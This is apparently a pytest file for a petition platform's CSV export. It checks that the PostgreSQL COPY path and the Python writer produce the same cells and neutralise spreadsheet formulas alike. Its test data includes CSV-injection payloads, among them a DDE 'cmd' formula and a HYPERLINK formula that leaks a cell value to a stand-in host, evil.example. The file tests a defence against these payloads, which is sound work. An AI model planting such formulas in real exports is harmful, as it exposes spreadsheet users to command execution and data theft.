"""On PostgreSQL the database writes the export's CSV (COPY): it must say exactly what the
Python writer says on SQLite — the same cells, formulas neutralised the same way."""

import csv
import io
import uuid

from sqlalchemy import insert
from werkzeug.datastructures import MultiDict

from campaign.db import utcnow
from campaign.exports.csv import stream_csv
from campaign.exports.services import CopiedCsv, iter_signature_rows, parse_filters
from campaign.extensions import db
from campaign.mailing.models import Subscription
from campaign.signatures.models import Signature, Supporter
from tests.factories import make_campaign, make_petition

PAYLOADS = ["=1+1", "+cmd|' /C calc'!A0", "-2", "@SUM(A1)", "\tx", "\rx",
            '=HYPERLINK("https://evil.example/?"&A1,"click")', "Ordinary", "", "Ünïcode 한국",
            'quote " and, comma', "line\nbreak"]
COLUMNS = ("first_name,last_name,email,postal_code,country,signed_at,confirmed_at,status,comment,"
           "source,petition,mailing_consent")


def _rows_python(campaign_id, filters, delimiter):
    text = "".join(stream_csv(list(filters.columns), iter_signature_rows(campaign_id, filters),
                              bom=False, delimiter=delimiter))
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def _rows_copied(campaign_id, filters, delimiter):
    header = "".join(stream_csv(list(filters.columns), (), bom=False, delimiter=delimiter,
                                line_end="\n"))
    copied = CopiedCsv(campaign_id, filters, delimiter=delimiter)
    body = b"".join(copied).decode()
    return list(csv.reader(io.StringIO(header + body), delimiter=delimiter)), copied.rows


def test_copy_and_python_write_the_same_cells(stack_app):
    tag = uuid.uuid4().hex[:8]
    with stack_app.test_request_context():
        campaign = make_campaign(slug=f"copy-{tag}")
        petition = make_petition(campaign, slug=f"copy-{tag}")
        db.session.flush()
        now = utcnow()
        for number, payload in enumerate(PAYLOADS):
            address = f"{tag}-{number}@example.org"
            supporter_id = db.session.execute(insert(Supporter).values(
                email=address, email_key=address, first_name=payload, last_name="L", postal_code="",
                country="CA", locale="en", created_at=now, updated_at=now)
                .returning(Supporter.id)).scalar_one()
            db.session.execute(insert(Signature).values(
                petition_id=petition.id, supporter_id=supporter_id, status="confirmed",
                first_name=payload, last_name=payload[::-1], postal_code="M5V", country="CA",
                comment=payload, source=payload[:100], locale="en", confirmed_at=now,
                created_at=now, updated_at=now))
            if number % 2:
                db.session.execute(insert(Subscription).values(
                    supporter_id=supporter_id, campaign_id=campaign.id, status="subscribed",
                    consent_wording="Keep me informed", consent_at=now, consent_source="test",
                    created_at=now, updated_at=now))
        db.session.commit()

        for delimiter, excel in ((",", ""), (";", "1")):
            filters = parse_filters(MultiDict({"columns": COLUMNS, "excel": excel}))
            python_rows = _rows_python(campaign.id, filters, delimiter)
            copied_rows, count = _rows_copied(campaign.id, filters, delimiter)
            assert copied_rows == python_rows
            assert count == len(PAYLOADS) == len(copied_rows) - 1
        first_names = [row[0] for row in copied_rows[1:]]
        for cell in first_names:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert "'=1+1" in first_names and "Ünïcode 한국" in first_names
        assert [row[-1] for row in copied_rows[1:]].count("true") == len(PAYLOADS) // 2
